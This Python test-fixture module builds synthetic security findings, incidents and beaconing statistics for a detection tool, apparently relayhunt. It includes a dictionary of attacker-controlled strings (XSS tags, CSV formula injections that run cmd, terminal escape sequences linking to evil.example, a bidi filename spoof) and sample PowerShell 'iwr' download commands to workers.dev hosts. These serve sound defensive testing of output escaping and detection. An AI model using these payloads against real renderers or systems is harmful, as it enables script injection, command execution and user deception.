"""Synthetic findings and incidents in the exact Arrow schemas of model.py, and hostile
strings to put in them."""

from __future__ import annotations

import datetime as dt
import json
from collections.abc import Mapping
from typing import Any

import pyarrow as pa

from relayhunt import model

T0 = dt.datetime(2026, 3, 1, 12, 0, 0)

# Strings an attacker controls in telemetry, each aimed at one renderer or all of them.
HOSTILE: dict[str, str] = {
    "script_tag": "<script>alert(1)</script>",
    "script_close": "</script><script>alert(2)</script><!--",
    "attr_break": '"><img src=x onerror=alert(3)>',
    "single_quote_attr": "' onmouseover='alert(4)",
    "csv_formula": "=cmd|' /C calc'!A0",
    "csv_plus": "+SUM(1,2)",
    "csv_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv_minus": "-2+3+cmd|' /C calc'!A0",
    "osc8_link": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "csi_clear": "\x1b[2J\x1b[31mred",
    "bidi_override": "invoice\u202egpj.exe",
    "rich_markup": "[bold red]FAKE[/bold red] [link=http://evil.example]x[/link]",
    "emoji_code": ":pile_of_poo: :warning:",
    "newline_cr": "line1\r\nline2\rline3",
    "json_breaker": '\\"}]}</script>\u2028\u2029',
    "html_comment": "<!-- <script>",
}


def finding_row(i: int = 0, **overrides: Any) -> dict[str, Any]:
    row: dict[str, Any] = {
        "finding_id": f"{i:016x}",
        "rule_id": "RH-SL-001",
        "rule_name": "Serverless egress from a non-browser process",
        "rule_profile": "default",
        "threat_technique_id": ["T1583.007", "T1584.007"],
        "severity": ("info", "low", "medium", "high", "critical")[i % 5],
        "confidence": ("low", "medium", "high")[i % 3],
        "score": float(100 - (i % 97)),
        "host_name": f"WS-{i % 40:03d}",
        "user_name": "alice",
        "process_entity_id": f"{{guid-{i}}}",
        "process_pid": 1000 + i,
        "process_executable": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "process_name": "powershell.exe",
        "process_command_line": f"powershell.exe -nop -c iwr https://a{i}.acme.workers.dev/x",
        "process_parent_executable": r"C:\Windows\explorer.exe",
        "process_parent_name": "explorer.exe",
        "process_parent_command_line": "explorer.exe",
        "process_category": "lolbin",
        "destination_domain": f"a{i}.acme.workers.dev",
        "destination_domain_origin": "dns_process",
        "destination_ip": "104.21.3.4",
        "destination_port": 443,
        "serverless_platform": ("Cloudflare Workers", "AWS Lambda function URL")[i % 2],
        "serverless_provider": ("Cloudflare", "Amazon")[i % 2],
        "serverless_kind": "serverless",
        "serverless_tenant": f"a{i}.acme.workers.dev",
        "first_seen": T0 + dt.timedelta(minutes=i),
        "last_seen": T0 + dt.timedelta(minutes=i, seconds=450),
        "event_count": 15,
        "reason": f"powershell.exe contacted a{i}.acme.workers.dev 15 times.",
        "evidence": [
            {
                "log_format": "sysmon.evtx",
                "log_file_path": "logs/host1/Sysmon.evtx",
                "log_line": None,
                "log_record": 100 + k,
                "timestamp": T0 + dt.timedelta(minutes=i, seconds=30 * k),
                "event_kind": "connection",
            }
            for k in range(3)
        ]
        + [
            {
                "log_format": "ecs.ndjson",
                "log_file_path": "logs/ecs.ndjson",
                "log_line": 7,
                "log_record": None,
                "timestamp": T0,
                "event_kind": "dns",
            }
        ],
        "stats": json.dumps(
            {"connections": 15, "interval_median_s": 30.0, "jitter": 0.04, "pids": [1, 2]}
        ),
    }
    row.update(overrides)
    return row


def findings_table(rows: list[Mapping[str, Any]]) -> pa.Table:
    return pa.Table.from_pylist(list(rows), schema=model.arrow_schema("findings"))


def incident_row(i: int = 0, **overrides: Any) -> dict[str, Any]:
    row: dict[str, Any] = {
        "incident_id": f"inc-{i:04d}",
        "host_name": f"WS-{i:03d}",
        "process_lineage": ["explorer.exe", "cmd.exe", "wscript.exe"],
        "risk_score": 90.0 - i,
        "severity": "high",
        "first_seen": T0,
        "last_seen": T0 + dt.timedelta(hours=1),
        "finding_ids": [f"{i:016x}"],
        "rule_ids": ["RH-SL-001", "RH-SL-003"],
        "threat_technique_id": ["T1583.007"],
        "destinations": ["a.acme.workers.dev"],
        "summary": "wscript.exe ran a dropped script that beaconed to a Worker.",
        "story": [
            "2026-03-01 12:00:00 cmd.exe wrote x.js in %TEMP%",
            "2026-03-01 12:00:05 wscript.exe ran x.js",
        ],
    }
    row.update(overrides)
    return row


def incidents_table(rows: list[Mapping[str, Any]]) -> pa.Table:
    return pa.Table.from_pylist(list(rows), schema=model.arrow_schema("incidents"))


def beacon_stats(
    n: int = 40,
    period: float = 60.0,
    *,
    shown: int | None = None,
    with_bytes: bool = True,
    above: int = 0,
) -> str:
    """RH-SL-005-shaped stats JSON with a plot series of ``shown`` of ``n`` check-ins and
    an interval histogram (what detect/beacon.py writes)."""
    k = n if shown is None else shown
    step = period * n / k
    series: dict[str, Any] = {
        "start": 1_772_366_400.0,  # 2026-03-01 12:00 UTC
        "n": n,
        "shown": k,
        "sampled": k < n,
        "t": [round(i * step + (i % 3), 1) for i in range(k)],
        "iv": [-1.0] + [round(period + (i % 5) - 2, 1) for i in range(1, k)],
    }
    if with_bytes:
        series["sent"] = [400 + (i % 7) for i in range(k)]
        series["recv"] = [1800 + 10 * (i % 4) for i in range(k)]
    counts = [0, 1, 3, 8, 12, 9, 4, 1, 0, 1]
    return json.dumps(
        {
            "checkins": n,
            "period_s": period,
            "sleep_s": period * 1.05,
            "jitter_pct": 10.0,
            "beacon_score": 0.9,
            "series": series,
            "interval_histogram": {
                "lo": period - 5,
                "width": 1.0,
                "counts": counts,
                "above": above,
            },
        }
    )


def beacon_row(i: int = 0, **overrides: Any) -> dict[str, Any]:
    """A beacon finding (rule RH-SL-005) with a plot series."""
    row = finding_row(
        i,
        rule_id="RH-SL-005",
        rule_name="Beaconing: regular check-ins to one destination",
        stats=beacon_stats(),
    )
    row.update(overrides)
    return row
